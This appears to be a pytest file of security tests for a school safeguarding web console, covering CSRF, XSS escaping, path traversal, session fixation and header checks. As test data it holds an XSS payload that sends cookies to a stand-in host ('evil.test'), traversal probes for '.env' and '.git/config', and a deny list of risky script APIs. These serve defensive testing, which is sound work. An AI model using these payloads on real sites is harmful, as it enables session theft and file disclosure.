"""What a web application must not let happen, tried on the whole console (docs/asvs.md)."""

from __future__ import annotations

import re
from dataclasses import replace

import pytest
import structlog

from collector.console.access import Door
from collector.console.app import FILES
from collector.console.desk import TEMPLATES
from collector.console.forgery import SAFE_METHODS, token_for
from collector.console.routes import ROUTES
from collector.domain.people import Role
from tests.fakes import console_services
from tests.fakes.console_services import PASSWORD, FakeServices
from tests.unit.collector.console.conftest import Browser
from tests.unit.collector.console.test_door import filled

SCRIPT = "</textarea><script>fetch('//evil.test/'+document.cookie)</script><img src=x onerror=alert(1)>"
CHANGES = [route for route in ROUTES if route.method not in SAFE_METHODS]


async def test_nothing_is_changed_for_another_site_or_without_the_forms_token(
    browser: Browser, services: FakeServices
) -> None:
    clients = {role: await browser(role.value) for role in (Role.DSL, Role.IT, Role.HEADTEACHER)}
    tokens = {whose.role: token_for(session) for session, whose in services.users.sessions.items()}
    tried = 0
    for route in CHANGES:
        role = next(
            (one for one in clients if not isinstance(route.access, frozenset) or one in route.access), Role.DSL
        )
        path, form = filled(route.path), {"csrf": tokens[role]}
        for site in ("cross-site", "same-site"):
            answer = await clients[role].post(path, data=form, headers={"Sec-Fetch-Site": site})
            assert answer.status_code == 403, (path, site)
            assert "was not sent from Heed" in answer.text, path
        if route.access is not Door.OPEN:
            answer = await clients[role].post(path, data={"csrf": tokens[Role.IT if role is Role.DSL else Role.DSL]})
            assert answer.status_code == 403, path
            assert "nothing was done" in answer.text, path
        tried += 1
    assert tried > 30
    assert [row.state.value for row in services.alerts.rows] == ["new"] * len(services.alerts.rows)


async def test_only_what_is_said_to_be_there_answers(browser: Browser) -> None:
    client = await browser("dsl")
    for method in ("TRACE", "PUT", "DELETE", "PATCH", "OPTIONS", "BREW"):
        answer = await client.request(method, "/queue")
        assert answer.status_code in {403, 405}, method
        assert "Suicide" not in answer.text
    for path in ("/static/", "/static/vendor/", "/static/../app.py", "/static/%2e%2e/app.py", "/static/..%2fapp.py",
                 "/.git/config", "/.env", "/docs", "/openapi.json", "/admin", "/queue/../static/.."):  # fmt: skip
        answer = await client.get(path)
        assert answer.status_code in {303, 404}, path
        assert "def create_console" not in answer.text


async def test_what_a_pupil_wrote_runs_nothing(
    browser: Browser, services: FakeServices, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(console_services, "SNIPPET", SCRIPT)
    services.alerts.rows = [
        replace(row, person=SCRIPT, device_name=SCRIPT, group=SCRIPT, title=SCRIPT, reasons=(SCRIPT,))
        for row in services.alerts.rows
    ]
    client = await browser("dsl")
    for path in ("/alerts/0a", "/queue", "/queue/rows", f"/queue?text={SCRIPT}", "/reports", f"/nowhere/{SCRIPT}"):
        answer = await client.get(path)
        assert "<script>fetch" not in answer.text, path
        assert "<img src=x" not in answer.text, path
    assert "&lt;script&gt;fetch" in (await client.get("/alerts/0a")).text


async def test_a_session_that_was_planted_is_not_taken_over(browser: Browser, services: FakeServices) -> None:
    client = await browser()
    client.cookies.set("heed", "planted-by-somebody")
    answer = await client.post("/sign-in", data={"name": "dsl", "password": PASSWORD})
    assert "planted-by-somebody" not in services.users.sessions
    assert "planted-by-somebody" not in answer.headers["set-cookie"]
    (begun,) = services.users.sessions
    assert begun in answer.headers["set-cookie"]


async def test_answers_say_what_they_are_and_tables_are_files(browser: Browser) -> None:
    client = await browser("dsl", https=True)
    for path, kind in (("/queue", "text/html"), ("/queue.csv", "text/csv"), ("/healthz", "")):
        answer = await client.get(path)
        assert answer.headers["content-type"].startswith(kind), path
        if answer.headers["content-type"].startswith("text/"):
            assert "charset=utf-8" in answer.headers["content-type"], path
        assert "access-control-allow-origin" not in answer.headers
        assert "server" not in answer.headers
    table = await client.get("/queue.csv")
    assert table.headers["content-disposition"].startswith("attachment")
    assert table.headers["cache-control"] == "no-store"


def test_scripts_build_no_markup_keep_nothing_of_anybody_and_send_nothing_elsewhere() -> None:
    for file in FILES.glob("*.js"):
        text = file.read_text(encoding="utf-8")
        for word in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "postMessage",
                     "sessionStorage", "indexedDB", "document.cookie", "https://", "http://"):  # fmt: skip
            assert word not in text, (file.name, word)
        if file.name not in {"theme.js", "keys.js"}:  # colours, and whether single keys act
            assert "localStorage" not in text, file.name
    for page in TEMPLATES.rglob("*.html"):
        text = page.read_text(encoding="utf-8")
        assert not re.search(r"<script(?! src=\"/static/)|\son[a-z]+=|javascript:|\|\s*safe\b", text), page.name


async def test_whom_a_page_was_refused_is_in_the_log_without_what_was_asked(browser: Browser) -> None:
    client = await browser("it")
    with structlog.testing.capture_logs() as logged:
        assert (await client.get("/alerts/0a?note=a-pupils-name")).status_code == 403
    (line,) = [one for one in logged if one["event"] == "console.refused"]
    assert (line["user"], line["what"]) == ("user-it", "GET /alerts/{alert_id}")
    assert "a-pupils-name" not in str(logged)
